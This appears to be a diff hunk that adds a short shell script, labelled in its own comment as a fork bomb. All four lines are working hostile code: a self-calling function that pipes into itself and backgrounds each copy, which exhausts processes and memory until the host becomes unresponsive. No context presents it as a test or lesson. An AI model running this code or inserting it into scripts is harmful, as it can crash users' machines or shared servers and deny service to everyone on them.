@@ -1,0 +1,4 @@
+# A fork bomb: every function call forks two more.
+bomb() { bomb | bomb & }
+bomb
+wait
